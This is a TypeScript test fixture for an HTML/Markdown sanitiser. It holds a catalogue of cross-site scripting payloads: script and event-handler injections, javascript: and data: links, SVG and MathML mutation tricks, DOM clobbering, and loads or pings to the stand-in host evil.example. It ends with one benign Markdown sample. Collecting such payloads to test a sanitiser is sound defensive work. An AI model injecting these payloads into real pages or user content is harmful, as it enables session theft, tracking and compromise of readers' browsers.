// Bodies that somebody stores to run a script in the browser of whoever reads them, or to make it call another host.
// Each calls `canary` in the page when it runs; `https://evil.example` is the other host. Collected by what they abuse,
// after OWASP's and the sanitiser's own lists.

const run = 'canary()';
const evil = 'https://evil.example';
const image = `<img src=x onerror=${run}>`;
const drawing = Buffer.from(
  `<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${run}"/></svg>`,
).toString('base64');

export const payloads: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'a script of another host': `<script src="${evil}/x.js"></script>`,
  'a module script': `<script type="module">${run}</script>`,
  'a script in capitals, with a slash': `<SCRIPT/x>${run}</SCRIPT>`,
  'a script in pieces': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'an image that fails': `<img src=x onerror=${run}>`,
  'an image without quotes and spaces': `<img/src=x/onerror=${run}>`,
  'an image of another host': `<img src="${evil}/pixel.gif">`,
  'an image of another host, in Markdown': `![pixel](${evil}/pixel.gif)`,
  'an image with a handler in its Markdown title': `![x](x "\\" onerror=${run} x=\\"")`,
  'an image with a set of sources': `<img srcset="${evil}/a.gif 1x, ${evil}/b.gif 2x">`,
  'a drawing that loads': `<svg onload=${run}></svg>`,
  'a script inside a drawing': `<svg><script>${run}</script></svg>`,
  'a drawing with an encoded script': `<svg><script>&#99;anary()</script></svg>`,
  'an animation that begins': `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  'a moving link': `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>click</text></a></svg>`,
  'a drawing that uses another one': `<svg><use href="data:image/svg+xml;base64,${drawing}#x"></use></svg>`,
  'a foreign object': `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  'a link in Markdown': `[click](javascript:${run})`,
  'a link in Markdown, encoded': `[click](&#106;avascript:${run})`,
  'a link in Markdown, with a tab': `[click](java&#9;script:${run})`,
  'a link in Markdown, in angle brackets': `[click](<javascript:${run}>)`,
  'a link in Markdown, in capitals': `[click](JaVaScRiPt:${run})`,
  'a link in Markdown, with a control character': `[click](\u0001javascript:${run})`.replace('\u0001', '&#1;'),
  'a link by reference': `[click][1]\n\n[1]: javascript:${run}`,
  'an autolink': `<javascript:${run}>`,
  'a data link': `[click](data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')})`,
  'a vbscript link': `[click](vbscript:${run})`,
  'a link in HTML': `<a href="javascript:${run}">click</a>`,
  'a link in HTML, with a line break': `<a href="java\nscript:${run}">click</a>`,
  'a link with a handler': `<a href="#" onclick="${run}" onmouseover="${run}">click</a>`,
  'a link that is pinged': `<a href="#" ping="${evil}/ping">click</a>`,
  'a handler out of a Markdown title': `[click](https://example.org 'x" onmouseover="${run}')`,
  'a handler out of a code fence': `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
  'a handler in a table': `| a |\n| - |\n| <img src=x onerror=${run}> |`,
  'a focus by itself': `<input autofocus onfocus=${run}>`,
  'a focus of anything': `<p tabindex=0 autofocus onfocus=${run}>x</p>`,
  'details that open': `<details open ontoggle=${run}>x</details>`,
  'a video': `<video><source onerror=${run} src=x></video>`,
  'a sound': `<audio src=x onerror=${run}></audio>`,
  'a marquee': `<marquee onstart=${run}>x</marquee>`,
  'a body': `<body onload=${run} onpageshow=${run}>`,
  'a style with an animation': `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${run}">x</p>`,
  'a style that fetches': `<p style="background:url(${evil}/a.gif)">x</p>`,
  'a style sheet that fetches': `<style>@import '${evil}/a.css'; body{background:url(${evil}/b.gif)}</style>`,
  'a linked style sheet': `<link rel=stylesheet href="${evil}/a.css">`,
  'a frame with a document': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'a frame with a script': `<iframe src="javascript:parent.${run}"></iframe>`,
  'a frame of another host': `<iframe src="${evil}"></iframe>`,
  'an object': `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  'an object of another host': `<object data="${evil}/x.swf"></object>`,
  'an embedded file': `<embed src="javascript:${run}"><embed src="${evil}/x.swf">`,
  'a form': `<form action="javascript:${run}"><button>x</button></form><form id=f action="${evil}"></form>`,
  'a button of its own action': `<form><button formaction="javascript:${run}">x</button></form>`,
  'another base': `<base href="${evil}/"><a href="x">x</a>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  'a refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'a template': `<template><img src=x onerror=${run}></template>`,
  'a clobbered document':
    '<form id=body name=body><input name=attributes><input name=nodeName></form>' +
    '<img name=currentScript><a id=part></a><a id=DOMPurify>x</a>',
  'parents': `<form id=message><input name=parentNode><input name=innerHTML><img src=x onerror=${run}></form>`,
  'mutation: a listing in a drawing': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'mutation: a formula in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'mutation: annotation': `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  'mutation: no script': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'mutation: a comment': `<!--><img src=x onerror=${run}>-->`,
  'mutation: a broken comment': `<!-- --!><img src=x onerror=${run}> -->`,
  'mutation: a title': `<title><img title="</title><img src=x onerror=${run}>">`,
  'mutation: a text area': `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  'mutation: a character data section': `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  'mutation: deep nesting': `${'<div>'.repeat(600)}<svg><style><img src=x onerror=${run}></style></svg>`,
  'an unfinished tag': `<img src=x onerror=${run} //`,
  'a processing instruction': `<?xml-stylesheet href="javascript:${run}"?><img src=x onerror=${run}>`,
  'an expression of a framework': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  'an element of its own': `<x-canary onpointerenter=${run} contenteditable autofocus onfocus=${run}>x</x-canary>`,
  'a shadow root': `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  'a portal of events': `<p onpointerrawupdate=${run} onbeforeinput=${run} onfocusin=${run} onmouseenter=${run}>x</p>`,
};

export const honest = `# Minutes

A *short* list with **one** \`code\` and a [link](https://example.org/a?b=c&d "there"):

- first
- second

1. one

\`\`\`js
if (a < b && c > d) alert("text");
\`\`\`

> quoted

| name | sum |
| ---- | --: |
| a    | 1   |

~~gone~~ and mail to <office@example.org>.
`;
